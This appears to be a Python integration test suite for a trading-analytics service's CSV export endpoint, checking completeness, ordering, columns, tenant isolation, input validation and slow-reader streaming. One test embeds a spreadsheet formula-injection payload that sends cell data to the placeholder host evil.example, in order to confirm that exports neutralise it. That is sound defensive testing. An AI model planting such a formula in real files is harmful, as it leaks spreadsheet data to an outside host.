"""Trades and days as CSV files: complete, safe to open, at the reader's pace."""

import asyncio
import csv
import io
from datetime import timedelta
from decimal import Decimal

import aiohttp
import pytest

from services.analytics.routes import export
from shared.testing.api_client import Answer
from tests.integration.accounts import eventually
from tests.integration.analytics.conftest import Platform, session_started, trade_closed
from tests.integration.analytics.test_facts import some_trades
from tests.unit.analytics.facts import at

EXPORT = "/v1/performance/export"


async def fetch(platform: Platform, token: str, query: str) -> tuple[Answer, list[dict[str, str]]]:
    answer = await platform.analytics.call("GET", f"{EXPORT}?{query}", token=token)
    return answer, list(csv.DictReader(io.StringIO(answer.raw, newline="")))


async def test_trades_are_exported_completely_and_in_order(platform: Platform) -> None:
    ann = await platform.register("ann@example.org", "Europe/Rome")
    await platform.get("/v1/performance/daily", ann)
    trades = some_trades(1, export.ROWS_AT_ONCE * 2 + 5)
    await platform.consume(*trades, trade_closed(1, "2026-01-01 10:00", "3", paper=False))
    answer, rows = await fetch(platform, ann, "what=trades")
    assert answer.status == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="trades-paper-20')
    assert [row["trade_id"] for row in rows] == [
        str(trade.trade_id) for trade in sorted(trades, key=lambda trade: (trade.exit_time, trade.trade_id))
    ]
    assert sum(Decimal(row["pnl"]) for row in rows) == sum(trade.pnl for trade in trades)
    assert (rows[0]["entry_price"], rows[0]["exit_price"], rows[0]["quantity"]) == ("1", "2", "1")
    _, live = await fetch(platform, ann, "what=trades&mode=LIVE&format=csv&from=2026-01-01&to=2026-01-01")
    assert [row["pnl"] for row in live] == ["3"]


async def test_days_are_exported_with_their_columns(platform: Platform) -> None:
    ann = await platform.register("ann@example.org", "Europe/Rome")
    await platform.get("/v1/performance/daily", ann)
    await platform.consume(session_started(1, "2026-01-01 00:00", "1000"))
    await platform.consume(trade_closed(1, "2026-01-01 10:00", "-10"), trade_closed(1, "2026-01-01 23:30", "99"))
    _, rows = await fetch(platform, ann, "what=days")
    first, second = rows
    assert [first[name] for name in ("date", "timezone", "starting_balance", "capital_added", "capital_taken")] == [
        *("2026-01-01", "Europe/Rome", "1000", "1000", "0")
    ]
    assert (first["pnl_percentage"], second["date"], second["pnl"]) == ("-1", "2026-01-02", "99")
    _, rows = await fetch(platform, ann, "what=days&from=2026-01-02")
    assert [row["date"] for row in rows] == ["2026-01-02"]
    _, none = await fetch(platform, ann, "what=days&mode=LIVE")
    assert none == []


async def test_a_name_that_is_a_formula_opens_as_text(platform: Platform) -> None:
    ann = await platform.register("ann@example.org")
    await platform.get("/v1/performance/daily", ann)
    name = '=HYPERLINK("http://evil.example/?"&A1,"x"),\r\n"'
    await platform.consume(trade_closed(1, "2026-01-01 10:00", "-5", strategy_name=name))
    _, (row,) = await fetch(platform, ann, "what=trades")
    assert (row["strategy_name"], row["pnl"]) == ("'" + name, "-5")


async def test_two_tenants_export_their_own_trades(platform: Platform) -> None:
    tokens = [await platform.register(f"{name}@example.org") for name in ("ann", "ben")]
    for token in tokens:
        await platform.get("/v1/performance/daily", token)
    await platform.consume(trade_closed(1, "2026-01-01 10:00", "1"), trade_closed(2, "2026-01-01 10:00", "2"))
    assert [[row["pnl"] for row in (await fetch(platform, token, "what=trades"))[1]] for token in tokens] == [
        ["1"],
        ["2"],
    ]


@pytest.mark.parametrize(
    "query",
    [
        "",
        "what=orders",
        "what=days&format=xlsx",
        "what=days&mode=BOTH",
        "what=days&from=yesterday",
        "what=days&x=1",
    ],
)
async def test_an_invalid_query_is_refused_before_the_first_byte(platform: Platform, query: str) -> None:
    ann = await platform.register("ann@example.org")
    answer = await platform.analytics.call("GET", f"{EXPORT}?{query}", token=ann)
    assert (answer.status, answer.body["type"]) == (422, "/problems/invalid-input")
    assert (await platform.analytics.call("GET", f"{EXPORT}?what=days")).status == 401


async def test_a_slow_reader_gets_the_whole_file_and_holds_no_connection(platform: Platform) -> None:
    """The client reads a little and then waits; meanwhile every connection is free for others."""
    ann = await platform.register("ann@example.org")
    await platform.get("/v1/performance/daily", ann)
    begin = at("2026-01-01 00:00")
    for start in range(0, 20_000, 5_000):
        moments = (begin + timedelta(minutes=number) for number in range(start, start + 5_000))
        await platform.consume(*(trade_closed(1, moment.isoformat(), "1") for moment in moments))
    async with aiohttp.ClientSession(platform.running.url, read_bufsize=4_096) as session:
        async with session.get(f"{EXPORT}?what=trades", headers={"Authorization": f"Bearer {ann}"}) as answer:
            text = await answer.content.read(1_000)
            await asyncio.sleep(1)

            async def idle() -> int:
                async with platform.database.tenants([1]) as connection:
                    busy: int = await connection.fetchval(
                        """
                        SELECT count(*) FROM pg_stat_activity
                        WHERE usename = 'analytics_app' AND datname = current_database() AND state <> 'idle'
                        """
                    )
                return busy

            assert await eventually(idle, lambda count: count == 0) == 0
            text += await answer.content.read()
    assert text.count(b"\r\n") == 20_001
